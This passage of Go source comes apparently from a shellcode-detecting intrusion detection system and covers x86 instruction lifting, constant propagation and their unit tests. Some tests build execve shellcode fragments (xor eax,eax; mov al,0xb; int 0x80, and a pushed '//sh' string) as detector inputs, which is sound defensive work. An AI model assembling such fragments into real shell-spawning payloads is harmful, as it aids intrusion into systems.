// Set records that register r holds v (or becomes unknown).
func (e *Env) Set(r x86.Reg, v uint32, known bool) {
	if r == x86.RegNone {
		return
	}
	fam := r.Family().Num()
	w, off := regGeom(r)
	e.regs[fam].set(w, off, v, known)
}

// Invalidate marks an entire register family unknown.
func (e *Env) Invalidate(r x86.Reg) {
	if r == x86.RegNone {
		return
	}
	e.regs[r.Family().Num()] = regVal{}
}

// InvalidateAll forgets everything.
func (e *Env) InvalidateAll() {
	for i := range e.regs {
		e.regs[i] = regVal{}
	}
	// Truncate rather than nil: stackOK gates every read, and keeping
	// the backing array lets a reused env track the next lift's stack
	// without reallocating.
	e.stack = e.stack[:0]
	e.stackOK = false
}

const maxTrackedStack = 64

func (e *Env) push(v uint32, known bool) {
	if !e.stackOK {
		return
	}
	if len(e.stack) >= maxTrackedStack {
		e.stackOK = false
		e.stack = e.stack[:0]
		return
	}
	e.stack = append(e.stack, stackVal{v, known})
}

// pop returns the top tracked stack value.
func (e *Env) pop() (uint32, bool) {
	if !e.stackOK || len(e.stack) == 0 {
		return 0, false
	}
	top := e.stack[len(e.stack)-1]
	e.stack = e.stack[:len(e.stack)-1]
	return top.val, top.known
}

// breakStack abandons symbolic stack tracking (unmodeled ESP use).
func (e *Env) breakStack() {
	e.stackOK = false
	e.stack = e.stack[:0]
}
