package ir

import (
	"math/rand"
	"testing"
	"testing/quick"

	"semnids/internal/x86"
)

func liftAsm(t *testing.T, build func(a *x86.Asm)) *Program {
	t.Helper()
	a := x86.NewAsm()
	build(a)
	b, err := a.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	return Lift(x86.SweepAll(b))
}

// last returns the final node of the threaded order.
func last(p *Program) *Node { return &p.Nodes[len(p.Nodes)-1] }

func TestConstantFoldingFigure1b(t *testing.T) {
	// mov ebx, 31h; add ebx, 64h  =>  ebx == 0x95 before the xor.
	p := liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.EBX, 0x31).
			AddRI(x86.EBX, 0x64).
			I(x86.XOR, x86.MemOp(x86.MemRef{Base: x86.EAX, Size: 1, Scale: 1}), x86.RegOp(x86.BL))
	})
	xorNode := last(p)
	if xorNode.Inst.Op != x86.XOR {
		t.Fatalf("last inst = %v", xorNode.Inst)
	}
	v, known := xorNode.ConstBefore(x86.BL)
	if !known || v != 0x95 {
		t.Errorf("BL before xor = (%#x, %v), want (0x95, true)", v, known)
	}
}

func TestXorZeroIdiom(t *testing.T) {
	p := liftAsm(t, func(a *x86.Asm) {
		a.XorRR(x86.EAX, x86.EAX).
			I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0xb)).
			IntN(0x80)
	})
	intNode := last(p)
	v, known := intNode.ConstBefore(x86.EAX)
	if !known || v != 0xb {
		t.Errorf("EAX before int 0x80 = (%#x, %v), want (0xb, true)", v, known)
	}
}

func TestPushPopConstant(t *testing.T) {
	p := liftAsm(t, func(a *x86.Asm) {
		a.PushI(0xb).
			PopR(x86.EAX).
			IntN(0x80)
	})
	intNode := last(p)
	v, known := intNode.ConstBefore(x86.EAX)
	if !known || v != 0xb {
		t.Errorf("EAX = (%#x, %v), want (0xb, true)", v, known)
	}
}

func TestPushPopThroughRegister(t *testing.T) {
	p := liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.EDX, 0x68732f2f). // "//sh"
						PushR(x86.EDX).
						PopR(x86.EBX).
						Nop()
	})
	n := last(p)
	v, known := n.ConstBefore(x86.EBX)
	if !known || v != 0x68732f2f {
		t.Errorf("EBX = (%#x, %v)", v, known)
	}
}

func TestHighLowByteTracking(t *testing.T) {
	p := liftAsm(t, func(a *x86.Asm) {
		a.XorRR(x86.ECX, x86.ECX).
			I(x86.MOV, x86.RegOp(x86.CH), x86.ImmOp(0x12)).
			I(x86.MOV, x86.RegOp(x86.CL), x86.ImmOp(0x34)).
			Nop()
	})
	n := last(p)
	v, known := n.ConstBefore(x86.ECX)
	if !known || v != 0x1234 {
		t.Errorf("ECX = (%#x, %v), want (0x1234, true)", v, known)
	}
}

func TestNotFolding(t *testing.T) {
	// ADMmutate alternate scheme builds keys with mov/or/and/not.
	p := liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.EDX, 0x00ff00ff).
			I(x86.OR, x86.RegOp(x86.EDX), x86.ImmOp(0x0f000f00)).
			I(x86.AND, x86.RegOp(x86.EDX), x86.ImmOp(0x0fff0fff)).
			I(x86.NOT, x86.RegOp(x86.EDX)).
			Nop()
	})
	n := last(p)
	want := ^(uint32(0x00ff00ff) | 0x0f000f00) | ^uint32(0x0fff0fff)
	want = ^((uint32(0x00ff00ff) | 0x0f000f00) & 0x0fff0fff)
	v, known := n.ConstBefore(x86.EDX)
	if !known || v != want {
		t.Errorf("EDX = (%#x, %v), want (%#x, true)", v, known, want)
	}
}

func TestUnknownAfterSyscall(t *testing.T) {
	p := liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.EAX, 0xb).
			IntN(0x80).
			Nop()
	})
	n := last(p)
	if _, known := n.ConstBefore(x86.EAX); known {
		t.Error("EAX should be unknown after int 0x80")
	}
}

func TestXchgSwapsKnowledge(t *testing.T) {
	p := liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.EAX, 7).
			I(x86.XCHG, x86.RegOp(x86.EAX), x86.RegOp(x86.ESI)).
			Nop()
	})
	n := last(p)
	if _, known := n.ConstBefore(x86.EAX); known {
		t.Error("EAX should be unknown after xchg with unknown ESI")
	}
	v, known := n.ConstBefore(x86.ESI)
	if !known || v != 7 {
		t.Errorf("ESI = (%#x, %v), want (7, true)", v, known)
	}
}

func TestAdvanceDetection(t *testing.T) {
	cases := []struct {
		build func(a *x86.Asm)
		fam   x86.Reg
		delta int64
	}{
		{func(a *x86.Asm) { a.IncR(x86.EAX) }, x86.EAX, 1},
		{func(a *x86.Asm) { a.DecR(x86.ESI) }, x86.ESI, -1},
		{func(a *x86.Asm) { a.AddRI(x86.EAX, 1) }, x86.EAX, 1},
		{func(a *x86.Asm) { a.SubRI(x86.EDI, 4) }, x86.EDI, -4},
		{func(a *x86.Asm) {
			a.I(x86.LEA, x86.RegOp(x86.EAX), x86.MemOp(x86.MemRef{Base: x86.EAX, Disp: 1, Scale: 1}))
		}, x86.EAX, 1},
		{func(a *x86.Asm) {
			a.MovRI(x86.EBX, 1).AddRI(x86.EBX, 0).I(x86.ADD, x86.RegOp(x86.EAX), x86.RegOp(x86.EBX))
		}, x86.EAX, 1},
	}
	for i, c := range cases {
		p := liftAsm(t, c.build)
		n := last(p)
		fam, delta, ok := n.Advance()
		if !ok || fam.Family() != c.fam || delta != c.delta {
			t.Errorf("case %d: Advance() = (%v, %d, %v), want (%v, %d, true)",
				i, fam, delta, ok, c.fam, c.delta)
		}
	}
	// Negative case: mov is not an advance.
	p := liftAsm(t, func(a *x86.Asm) { a.MovRI(x86.EAX, 5) })
	if _, _, ok := last(p).Advance(); ok {
		t.Error("mov should not be an advance")
	}
}

func TestDefsUses(t *testing.T) {
	p := liftAsm(t, func(a *x86.Asm) {
		a.I(x86.XOR, x86.MemOp(x86.MemRef{Base: x86.EAX, Size: 1, Scale: 1}), x86.RegOp(x86.BL))
	})
	n := &p.Nodes[0]
	if !n.WritesMem || !n.ReadsMem {
		t.Error("xor [eax], bl must read and write memory")
	}
	if !n.Uses.Has(x86.EAX) || !n.Uses.Has(x86.EBX) {
		t.Errorf("uses = %b", n.Uses)
	}
	if n.Defs.Has(x86.EBX) {
		t.Error("xor to memory must not def ebx")
	}

	p = liftAsm(t, func(a *x86.Asm) { a.PopR(x86.ECX) })
	n = &p.Nodes[0]
	if !n.Defs.Has(x86.ECX) || !n.Defs.Has(x86.ESP) {
		t.Errorf("pop defs = %b", n.Defs)
	}

	p = liftAsm(t, func(a *x86.Asm) { a.Loop("self"); a.Label("self") })
	// loop with a forward label to itself is fine for def/use purposes
	n = &p.Nodes[0]
	if !n.Defs.Has(x86.ECX) || !n.Uses.Has(x86.ECX) {
		t.Errorf("loop defs/uses: %b / %b", n.Defs, n.Uses)
	}
}

func TestRegSet(t *testing.T) {
	var s RegSet
	s.Add(x86.AL)
	if !s.Has(x86.EAX) || !s.Has(x86.AH) || !s.Has(x86.AX) {
		t.Error("AL must alias the EAX family")
	}
	if s.Has(x86.EBX) {
		t.Error("EBX not added")
	}
	var o RegSet
	o.Add(x86.EBX)
	if s.Intersects(o) {
		t.Error("disjoint sets intersect")
	}
	o.Add(x86.EAX)
	if !s.Intersects(o) {
		t.Error("intersecting sets do not intersect")
	}
	s.Add(x86.RegNone) // must be a no-op
	if s.Has(x86.RegNone) {
		t.Error("RegNone in set")
	}
}

// Property: the evaluator's constant claims are sound — executing the
// instruction sequence on a concrete machine gives the value the
// evaluator predicts whenever it claims knowledge.
func TestEvaluatorSoundness(t *testing.T) {
	r := rand.New(rand.NewSource(42))
	regs := []x86.Reg{x86.EAX, x86.ECX, x86.EDX, x86.EBX, x86.ESI, x86.EDI}

	prop := func() bool {
		// Build a random straight-line sequence of foldable ops.
		a := x86.NewAsm()
		type op struct {
			kind int
			dst  x86.Reg
			src  x86.Reg
			imm  int64
		}
		var ops []op
		n := 3 + r.Intn(10)
		for i := 0; i < n; i++ {
			o := op{kind: r.Intn(7), dst: regs[r.Intn(len(regs))],
				src: regs[r.Intn(len(regs))], imm: int64(int32(r.Uint32()))}
			ops = append(ops, o)
			switch o.kind {
			case 0:
				a.MovRI(o.dst, o.imm)
			case 1:
				a.AddRI(o.dst, o.imm)
			case 2:
				a.SubRI(o.dst, o.imm)
			case 3:
				a.I(x86.XOR, x86.RegOp(o.dst), x86.ImmOp(o.imm))
			case 4:
				a.I(x86.NOT, x86.RegOp(o.dst))
			case 5:
				a.MovRR(o.dst, o.src)
			case 6:
				a.IncR(o.dst)
			}
		}
		a.Nop()
		code, err := a.Bytes()
		if err != nil {
			t.Logf("asm: %v", err)
			return false
		}

		// Concrete interpreter over the same ops.
		conc := map[x86.Reg]uint32{}
		concKnown := map[x86.Reg]bool{}
		for _, o := range ops {
			switch o.kind {
			case 0:
				conc[o.dst] = uint32(o.imm)
				concKnown[o.dst] = true
			case 1:
				conc[o.dst] += uint32(o.imm)
			case 2:
				conc[o.dst] -= uint32(o.imm)
			case 3:
				conc[o.dst] ^= uint32(o.imm)
			case 4:
				conc[o.dst] = ^conc[o.dst]
			case 5:
				conc[o.dst] = conc[o.src]
				concKnown[o.dst] = concKnown[o.src]
			case 6:
				conc[o.dst]++
			}
		}

		p := Lift(x86.SweepAll(code))
		final := last(p)
		for _, reg := range regs {
			v, known := final.ConstBefore(reg)
			if known && concKnown[reg] && v != conc[reg] {
				t.Logf("reg %v: evaluator %#x, concrete %#x", reg, v, conc[reg])
				return false
			}
			if known && !concKnown[reg] {
				t.Logf("reg %v: evaluator claims %#x for never-initialized reg", reg, v)
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestLiftEmpty(t *testing.T) {
	p := Lift(nil)
	if len(p.Nodes) != 0 || len(p.Raw) != 0 {
		t.Error("empty lift should produce empty program")
	}
}
