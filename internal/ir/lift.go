package ir

import (
	"semnids/internal/x86"
)

// RegSet is a bitmask over the eight general-purpose register
// families (bit n = family with hardware number n).
type RegSet uint8

// Add inserts the family of r.
func (s *RegSet) Add(r x86.Reg) {
	if r != x86.RegNone {
		*s |= 1 << r.Family().Num()
	}
}

// Has reports whether the family of r is in the set.
func (s RegSet) Has(r x86.Reg) bool {
	if r == x86.RegNone {
		return false
	}
	return s&(1<<r.Family().Num()) != 0
}

// Intersects reports whether the two sets share a register family.
func (s RegSet) Intersects(o RegSet) bool { return s&o != 0 }

// AllRegs is the set of every family.
const AllRegs RegSet = 0xff

// Node is one instruction in execution order together with the
// abstract state holding *before* it executes and its def/use sets.
type Node struct {
	Inst x86.Inst
	Seq  int // position in execution order

	Pre Env // state before the instruction executes

	Defs      RegSet // register families written
	Uses      RegSet // register families read
	WritesMem bool
	ReadsMem  bool
}

// ConstBefore reports the value of register r just before this node
// executes, if known.
func (n *Node) ConstBefore(r x86.Reg) (uint32, bool) { return n.Pre.Get(r) }

// Advance reports whether the instruction adds a constant delta to the
// full 32-bit register fam (covers add/sub imm, inc, dec, and
// lea r, [r+disp]).
func (n *Node) Advance() (fam x86.Reg, delta int64, ok bool) {
	in := n.Inst
	a0, a1 := in.Args[0], in.Args[1]
	switch in.Op {
	case x86.INC:
		if a0.Kind == x86.KindReg && a0.Reg.Size() == 4 {
			return a0.Reg, 1, true
		}
	case x86.DEC:
		if a0.Kind == x86.KindReg && a0.Reg.Size() == 4 {
			return a0.Reg, -1, true
		}
	case x86.ADD:
		if a0.Kind == x86.KindReg && a0.Reg.Size() == 4 && a1.Kind == x86.KindImm {
			return a0.Reg, a1.Imm, true
		}
		// add reg, reg2 where reg2 holds a known constant
		if a0.Kind == x86.KindReg && a0.Reg.Size() == 4 && a1.Kind == x86.KindReg {
			if v, known := n.Pre.Get(a1.Reg); known {
				return a0.Reg, int64(int32(v)), true
			}
		}
	case x86.SUB:
		if a0.Kind == x86.KindReg && a0.Reg.Size() == 4 && a1.Kind == x86.KindImm {
			return a0.Reg, -a1.Imm, true
		}
		if a0.Kind == x86.KindReg && a0.Reg.Size() == 4 && a1.Kind == x86.KindReg {
			if v, known := n.Pre.Get(a1.Reg); known {
				return a0.Reg, -int64(int32(v)), true
			}
		}
	case x86.LEA:
		if a0.Kind == x86.KindReg && a1.Kind == x86.KindMem &&
			a1.Mem.Base != x86.RegNone && a1.Mem.Index == x86.RegNone &&
			a1.Mem.Base.Family() == a0.Reg.Family() {
			return a0.Reg, int64(a1.Mem.Disp), true
		}
	}
	return x86.RegNone, 0, false
}

// Program is the lifted, analyzed form of a disassembled frame.
type Program struct {
	// Nodes in recovered execution order (unconditional jmp chains
	// threaded away).
	Nodes []Node
	// Raw is the linear-sweep order, also lifted, for matching code
	// that is sequential but junk-laden.
	Raw []Node

	// threaded is reusable scratch for the threaded instruction order.
	threaded []x86.Inst

	// stackBuf is the evaluator's reusable symbolic-stack storage,
	// threaded through analyzeInto so repeated lifts do not re-grow
	// the tracked-push buffer every time.
	stackBuf []stackVal
}

// Lift analyzes a decoded instruction stream: it computes the threaded
// execution order, runs the constant-propagation evaluator along both
// the threaded and raw orders, and fills in def/use sets.
func Lift(insts []x86.Inst) *Program {
	p := &Program{}
	p.Reuse(insts)
	return p
}

// Reuse re-lifts a new instruction stream into p, reusing the node and
// scratch storage of previous lifts. The hot analysis path lifts every
// frame at several sweep offsets; reusing one Program per worker keeps
// those lifts allocation-free once the buffers have grown to frame
// size.
func (p *Program) Reuse(insts []x86.Inst) {
	p.threaded = x86.ThreadOrderAppend(p.threaded[:0], insts)
	p.Nodes, p.stackBuf = analyzeInto(p.Nodes[:0], p.threaded, p.stackBuf)
	p.Raw, p.stackBuf = analyzeInto(p.Raw[:0], insts, p.stackBuf)
}

// analyzeInto runs the abstract evaluator over insts in the given
// order, appending the resulting nodes to the caller-managed slice.
// stackBuf seeds the evaluator's symbolic stack; the (possibly grown)
// buffer is returned for the next lift to reuse.
func analyzeInto(nodes []Node, insts []x86.Inst, stackBuf []stackVal) ([]Node, []stackVal) {
	env := NewEnv()
	env.stack = stackBuf[:0]
	base := len(nodes)
	for i := range insts {
		in := &insts[i]
		nodes = append(nodes, Node{Inst: *in, Seq: i, Pre: env.snapshot()})
		computeDefsUses(&nodes[base+i])
		step(&env, in)
	}
	return nodes, env.stack
}

// computeDefsUses fills the def/use sets for one instruction.
func computeDefsUses(n *Node) {
	in := &n.Inst
	addOperandUses := func(o x86.Operand) {
		switch o.Kind {
		case x86.KindReg:
			n.Uses.Add(o.Reg)
		case x86.KindMem:
			n.Uses.Add(o.Mem.Base)
			n.Uses.Add(o.Mem.Index)
			n.ReadsMem = true
		}
	}
	defOperand := func(o x86.Operand) {
		switch o.Kind {
		case x86.KindReg:
			n.Defs.Add(o.Reg)
		case x86.KindMem:
			n.Uses.Add(o.Mem.Base)
			n.Uses.Add(o.Mem.Index)
			n.WritesMem = true
		}
	}

	a0, a1, a2 := in.Args[0], in.Args[1], in.Args[2]
	switch in.Op {
	case x86.MOV, x86.MOVZX, x86.MOVSX, x86.LEA, x86.SETCC:
		defOperand(a0)
		if in.Op != x86.LEA {
			addOperandUses(a1)
		} else if a1.Kind == x86.KindMem {
			n.Uses.Add(a1.Mem.Base)
			n.Uses.Add(a1.Mem.Index)
		}
	case x86.ADD, x86.ADC, x86.SUB, x86.SBB, x86.AND, x86.OR, x86.XOR,
		x86.SHL, x86.SHR, x86.SAR, x86.ROL, x86.ROR, x86.RCL, x86.RCR:
		defOperand(a0)
		addOperandUses(a0)
		addOperandUses(a1)
	case x86.CMP, x86.TEST:
		addOperandUses(a0)
		addOperandUses(a1)
	case x86.NOT, x86.NEG, x86.INC, x86.DEC, x86.BSWAP:
		defOperand(a0)
		addOperandUses(a0)
	case x86.XCHG:
		defOperand(a0)
		defOperand(a1)
		addOperandUses(a0)
		addOperandUses(a1)
	case x86.MUL, x86.IMUL, x86.DIV, x86.IDIV:
		if a1.Kind != x86.KindNone { // two/three operand imul
			defOperand(a0)
			addOperandUses(a1)
			if a2.Kind != x86.KindNone {
				addOperandUses(a2)
			}
		} else {
			addOperandUses(a0)
			n.Uses.Add(x86.EAX)
			n.Defs.Add(x86.EAX)
			n.Defs.Add(x86.EDX)
		}
	case x86.PUSH:
		addOperandUses(a0)
		n.Uses.Add(x86.ESP)
		n.Defs.Add(x86.ESP)
		n.WritesMem = true
	case x86.POP:
		defOperand(a0)
		n.Uses.Add(x86.ESP)
		n.Defs.Add(x86.ESP)
		n.ReadsMem = true
	case x86.PUSHAD:
		n.Uses = AllRegs
		n.Defs.Add(x86.ESP)
		n.WritesMem = true
	case x86.POPAD:
		n.Defs = AllRegs
		n.ReadsMem = true
	case x86.PUSHFD:
		n.Defs.Add(x86.ESP)
		n.WritesMem = true
	case x86.POPFD:
		n.Defs.Add(x86.ESP)
		n.ReadsMem = true
	case x86.CALL, x86.JMP:
		addOperandUses(a0)
		if in.Op == x86.CALL {
			n.Defs.Add(x86.ESP)
			n.WritesMem = true
		}
	case x86.RET:
		n.Uses.Add(x86.ESP)
		n.Defs.Add(x86.ESP)
		n.ReadsMem = true
	case x86.LEAVE:
		n.Uses.Add(x86.EBP)
		n.Defs.Add(x86.ESP)
		n.Defs.Add(x86.EBP)
		n.ReadsMem = true
	case x86.LOOP, x86.LOOPE, x86.LOOPNE:
		n.Uses.Add(x86.ECX)
		n.Defs.Add(x86.ECX)
	case x86.JECXZ:
		n.Uses.Add(x86.ECX)
	case x86.INT, x86.INT3, x86.INTO:
		// A system call reads the syscall registers and clobbers EAX.
		n.Uses = AllRegs
		n.Defs.Add(x86.EAX)
	case x86.CDQ:
		n.Uses.Add(x86.EAX)
		n.Defs.Add(x86.EDX)
	case x86.CWDE:
		n.Uses.Add(x86.EAX)
		n.Defs.Add(x86.EAX)
	case x86.SAHF:
		n.Uses.Add(x86.EAX)
	case x86.LAHF, x86.SALC:
		n.Defs.Add(x86.EAX)
	case x86.XLAT:
		n.Uses.Add(x86.EAX)
		n.Uses.Add(x86.EBX)
		n.Defs.Add(x86.EAX)
		n.ReadsMem = true
	case x86.AAM, x86.AAD, x86.AAA, x86.AAS, x86.DAA, x86.DAS:
		n.Uses.Add(x86.EAX)
		n.Defs.Add(x86.EAX)
	case x86.STOSB, x86.STOSD:
		n.Uses.Add(x86.EAX)
		n.Uses.Add(x86.EDI)
		n.Defs.Add(x86.EDI)
		n.WritesMem = true
	case x86.LODSB, x86.LODSD:
		n.Uses.Add(x86.ESI)
		n.Defs.Add(x86.EAX)
		n.Defs.Add(x86.ESI)
		n.ReadsMem = true
	case x86.MOVSB, x86.MOVSD:
		n.Uses.Add(x86.ESI)
		n.Uses.Add(x86.EDI)
		n.Defs.Add(x86.ESI)
		n.Defs.Add(x86.EDI)
		n.ReadsMem = true
		n.WritesMem = true
	case x86.SCASB, x86.SCASD:
		n.Uses.Add(x86.EAX)
		n.Uses.Add(x86.EDI)
		n.Defs.Add(x86.EDI)
		n.ReadsMem = true
	case x86.CMPSB, x86.CMPSD:
		n.Uses.Add(x86.ESI)
		n.Uses.Add(x86.EDI)
		n.Defs.Add(x86.ESI)
		n.Defs.Add(x86.EDI)
		n.ReadsMem = true
	case x86.CPUID:
		n.Uses.Add(x86.EAX)
		n.Defs.Add(x86.EAX)
		n.Defs.Add(x86.EBX)
		n.Defs.Add(x86.ECX)
		n.Defs.Add(x86.EDX)
	case x86.RDTSC:
		n.Defs.Add(x86.EAX)
		n.Defs.Add(x86.EDX)
	case x86.CMOVCC:
		defOperand(a0)
		addOperandUses(a0) // conditional: may keep the old value
		addOperandUses(a1)
	case x86.BT:
		addOperandUses(a0)
		addOperandUses(a1)
	case x86.BTS, x86.BTR, x86.BTC:
		defOperand(a0)
		addOperandUses(a0)
		addOperandUses(a1)
	case x86.SHLD, x86.SHRD:
		defOperand(a0)
		addOperandUses(a0)
		addOperandUses(a1)
		addOperandUses(a2)
	case x86.CMPXCHG:
		defOperand(a0)
		addOperandUses(a0)
		addOperandUses(a1)
		n.Uses.Add(x86.EAX)
		n.Defs.Add(x86.EAX)
	case x86.XADD:
		defOperand(a0)
		defOperand(a1)
		addOperandUses(a0)
		addOperandUses(a1)
	case x86.BAD:
		// Unknown data byte: conservatively clobbers nothing (it is
		// not executed code as far as matching is concerned).
	}
	if in.Rep || in.Repne {
		n.Uses.Add(x86.ECX)
		n.Defs.Add(x86.ECX)
	}
}

// step advances the abstract state over one instruction.
func step(env *Env, in *x86.Inst) {
	a0, a1 := in.Args[0], in.Args[1]

	// Resolve a source operand to a (value, known) pair.
	src := func(o x86.Operand) (uint32, bool) {
		switch o.Kind {
		case x86.KindImm:
			return uint32(o.Imm), true
		case x86.KindReg:
			return env.Get(o.Reg)
		}
		return 0, false // memory contents are not modeled
	}

	// Generic destination invalidation for register writes.
	clobber := func(o x86.Operand) {
		if o.Kind == x86.KindReg {
			env.Set(o.Reg, 0, false)
		}
	}

	switch in.Op {
	case x86.MOV:
		if a0.Kind == x86.KindReg {
			v, known := src(a1)
			env.Set(a0.Reg, v, known)
		}
	case x86.LEA:
		if a0.Kind == x86.KindReg && a1.Kind == x86.KindMem {
			m := a1.Mem
			total := uint32(m.Disp)
			known := true
			if m.Base != x86.RegNone {
				v, k := env.Get(m.Base)
				total += v
				known = known && k
			}
			if m.Index != x86.RegNone {
				v, k := env.Get(m.Index)
				total += v * uint32(m.Scale)
				known = known && k
			}
			env.Set(a0.Reg, total, known)
		}
	case x86.XOR:
		if a0.Kind == x86.KindReg {
			if a1.Kind == x86.KindReg && a1.Reg == a0.Reg {
				env.Set(a0.Reg, 0, true) // xor r, r => 0
				break
			}
			alu(env, a0.Reg, a1, src, func(x, y uint32) uint32 { return x ^ y })
		}
	case x86.SUB:
		if a0.Kind == x86.KindReg {
			if a1.Kind == x86.KindReg && a1.Reg == a0.Reg {
				env.Set(a0.Reg, 0, true) // sub r, r => 0
				break
			}
			alu(env, a0.Reg, a1, src, func(x, y uint32) uint32 { return x - y })
		}
		if a0.IsReg(x86.ESP) {
			env.breakStack()
		}
	case x86.ADD:
		if a0.Kind == x86.KindReg {
			alu(env, a0.Reg, a1, src, func(x, y uint32) uint32 { return x + y })
		}
		if a0.IsReg(x86.ESP) {
			env.breakStack()
		}
	case x86.ADC, x86.SBB:
		clobber(a0) // carry not modeled
	case x86.AND:
		if a0.Kind == x86.KindReg {
			alu(env, a0.Reg, a1, src, func(x, y uint32) uint32 { return x & y })
		}
	case x86.OR:
		if a0.Kind == x86.KindReg {
			alu(env, a0.Reg, a1, src, func(x, y uint32) uint32 { return x | y })
		}
	case x86.SHL:
		shiftStep(env, a0, a1, src, func(x uint32, s uint) uint32 { return x << s })
	case x86.SHR:
		shiftStep(env, a0, a1, src, func(x uint32, s uint) uint32 { return x >> s })
	case x86.SAR:
		// Sign extension is width-dependent; fold only full registers.
		shiftStep32(env, a0, a1, src, func(x uint32, s uint) uint32 {
			return uint32(int32(x) >> s)
		})
	case x86.ROL:
		shiftStep32(env, a0, a1, src, func(x uint32, s uint) uint32 {
			if s %= 32; s == 0 {
				return x
			} else {
				return x<<s | x>>(32-s)
			}
		})
	case x86.ROR:
		shiftStep32(env, a0, a1, src, func(x uint32, s uint) uint32 {
			if s %= 32; s == 0 {
				return x
			} else {
				return x>>s | x<<(32-s)
			}
		})
	case x86.RCL, x86.RCR:
		clobber(a0)
	case x86.NOT:
		if a0.Kind == x86.KindReg {
			unary(env, a0.Reg, func(x uint32) uint32 { return ^x })
		}
	case x86.NEG:
		if a0.Kind == x86.KindReg {
			unary(env, a0.Reg, func(x uint32) uint32 { return -x })
		}
	case x86.INC:
		if a0.Kind == x86.KindReg {
			unary(env, a0.Reg, func(x uint32) uint32 { return x + 1 })
		}
	case x86.DEC:
		if a0.Kind == x86.KindReg {
			unary(env, a0.Reg, func(x uint32) uint32 { return x - 1 })
		}
	case x86.BSWAP:
		if a0.Kind == x86.KindReg {
			unary(env, a0.Reg, func(x uint32) uint32 {
				return x<<24 | x>>24 | (x&0xff00)<<8 | (x>>8)&0xff00
			})
		}
	case x86.MOVZX:
		if a0.Kind == x86.KindReg {
			if v, known := src(a1); known {
				w := uint(1)
				if a1.Kind == x86.KindReg {
					w, _ = regGeom(a1.Reg)
				} else if a1.Kind == x86.KindMem {
					w = uint(a1.Mem.Size)
				}
				env.Set(a0.Reg, v&widthMask(w), true)
			} else {
				clobber(a0)
			}
		}
	case x86.MOVSX:
		clobber(a0)
	case x86.XCHG:
		if a0.Kind == x86.KindReg && a1.Kind == x86.KindReg {
			v0, k0 := env.Get(a0.Reg)
			v1, k1 := env.Get(a1.Reg)
			env.Set(a0.Reg, v1, k1)
			env.Set(a1.Reg, v0, k0)
		} else {
			clobber(a0)
			clobber(a1)
		}
	case x86.PUSH:
		v, known := src(a0)
		env.push(v, known)
	case x86.POP:
		v, known := env.pop()
		if a0.Kind == x86.KindReg {
			if a0.Reg == x86.ESP {
				env.breakStack()
				env.Invalidate(x86.ESP)
			} else {
				env.Set(a0.Reg, v, known)
			}
		}
	case x86.PUSHAD, x86.PUSHFD, x86.POPFD:
		env.breakStack()
	case x86.POPAD:
		env.InvalidateAll()
	case x86.CALL:
		env.breakStack()
		// A call-pop idiom (call next; pop reg) loads an address we do
		// not know numerically; the return address becomes unknown.
	case x86.RET, x86.LEAVE:
		env.breakStack()
		if in.Op == x86.LEAVE {
			env.Invalidate(x86.EBP)
			env.Invalidate(x86.ESP)
		}
	case x86.INT, x86.INT3, x86.INTO:
		env.Invalidate(x86.EAX) // syscall return value
	case x86.MUL:
		env.Invalidate(x86.EAX)
		env.Invalidate(x86.EDX)
	case x86.IMUL:
		if a1.Kind == x86.KindNone {
			env.Invalidate(x86.EAX)
			env.Invalidate(x86.EDX)
		} else {
			clobber(a0)
		}
	case x86.DIV, x86.IDIV:
		env.Invalidate(x86.EAX)
		env.Invalidate(x86.EDX)
	case x86.CDQ:
		if v, known := env.Get(x86.EAX); known {
			if int32(v) < 0 {
				env.Set(x86.EDX, 0xffffffff, true)
			} else {
				env.Set(x86.EDX, 0, true)
			}
		} else {
			env.Invalidate(x86.EDX)
		}
	case x86.CWDE:
		env.Invalidate(x86.EAX)
	case x86.LAHF:
		env.Set(x86.AH, 0, false)
	case x86.SALC:
		env.Set(x86.AL, 0, false)
	case x86.XLAT:
		env.Set(x86.AL, 0, false)
	case x86.AAM, x86.AAD, x86.AAA, x86.AAS, x86.DAA, x86.DAS:
		env.Invalidate(x86.EAX)
	case x86.LODSB:
		env.Set(x86.AL, 0, false)
		env.Invalidate(x86.ESI)
	case x86.LODSD:
		env.Invalidate(x86.EAX)
		env.Invalidate(x86.ESI)
	case x86.STOSB, x86.STOSD, x86.SCASB, x86.SCASD:
		env.Invalidate(x86.EDI)
	case x86.MOVSB, x86.MOVSD, x86.CMPSB, x86.CMPSD:
		env.Invalidate(x86.ESI)
		env.Invalidate(x86.EDI)
	case x86.CPUID:
		env.Invalidate(x86.EAX)
		env.Invalidate(x86.EBX)
		env.Invalidate(x86.ECX)
		env.Invalidate(x86.EDX)
	case x86.RDTSC:
		env.Invalidate(x86.EAX)
		env.Invalidate(x86.EDX)
	case x86.LOOP, x86.LOOPE, x86.LOOPNE:
		// decrements ecx
		if v, known := env.Get(x86.ECX); known {
			env.Set(x86.ECX, v-1, true)
		}
	case x86.SETCC, x86.CMOVCC, x86.SHLD, x86.SHRD:
		clobber(a0)
	case x86.BTS, x86.BTR, x86.BTC:
		clobber(a0)
	case x86.CMPXCHG:
		clobber(a0)
		env.Invalidate(x86.EAX)
	case x86.XADD:
		clobber(a0)
		clobber(a1)
	}
}

// alu applies a binary operation to a register destination, operating
// at the register's width.
func alu(env *Env, dst x86.Reg, srcOp x86.Operand,
	src func(x86.Operand) (uint32, bool), f func(x, y uint32) uint32) {
	cur, curKnown := env.Get(dst)
	v, vKnown := src(srcOp)
	if !curKnown || !vKnown {
		env.Set(dst, 0, false)
		return
	}
	w, _ := regGeom(dst)
	env.Set(dst, f(cur, v)&widthMask(w), true)
}

// unary applies a unary operation to a register at its width.
func unary(env *Env, dst x86.Reg, f func(uint32) uint32) {
	cur, known := env.Get(dst)
	if !known {
		env.Set(dst, 0, false)
		return
	}
	w, _ := regGeom(dst)
	env.Set(dst, f(cur)&widthMask(w), true)
}

func shiftStep(env *Env, a0, a1 x86.Operand,
	src func(x86.Operand) (uint32, bool), f func(uint32, uint) uint32) {
	if a0.Kind != x86.KindReg {
		return
	}
	amt, amtKnown := src(a1)
	cur, curKnown := env.Get(a0.Reg)
	if !amtKnown || !curKnown || amt >= 32 {
